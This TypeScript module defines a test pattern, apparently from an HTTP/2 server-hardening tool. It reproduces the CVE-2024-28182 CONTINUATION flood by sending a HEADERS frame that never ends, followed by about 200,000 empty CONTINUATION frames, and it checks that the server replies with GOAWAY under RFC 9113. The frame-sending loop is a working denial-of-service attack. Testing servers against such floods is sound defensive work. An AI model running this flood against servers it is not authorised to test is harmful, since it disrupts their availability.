/**
 * The 2024 CONTINUATION flood's cheapest form: zero-length CONTINUATION frames, which never grow the
 * block, so a limit counted only in bytes never stops them — only a count of frames does.
 */
import { Engagement } from '../engagement.ts';
import { continuationFrame, headersFrame, requestBlock } from '../frames.ts';
import { judgeUnendingBlock } from './answers.ts';
import { definePattern } from './types.ts';

const EMPTY_CONTINUATION = continuationFrame(1, Buffer.alloc(0), false);

export default definePattern({
  id: 'empty-continuation-flood',
  title: 'Zero-length CONTINUATION flood',
  cve: 'CVE-2024-28182',
  year: 2024,
  summary: 'HEADERS without END_HEADERS, then empty CONTINUATION frames, never ending the block',
  expected: 'GOAWAY ENHANCE_YOUR_CALM (or 431 / RST_STREAM) after a bounded number of frames, not of bytes (§10.5)',
  rfc: 'RFC 9113 §6.10, §10.5',
  defaults: { frames: 200_000 },
  scaled: ['frames'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'empty CONTINUATION frames', p.frames);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const head = headersFrame(1, requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), {
        endStream: true,
        endHeaders: false,
      });
      e.sent(await peer.writeUnits(p.frames, (i) => (i === 0 ? [head, EMPTY_CONTINUATION] : EMPTY_CONTINUATION), ctx.budget));
    }
    return e.finish();
  },
  judge: judgeUnendingBlock,
});
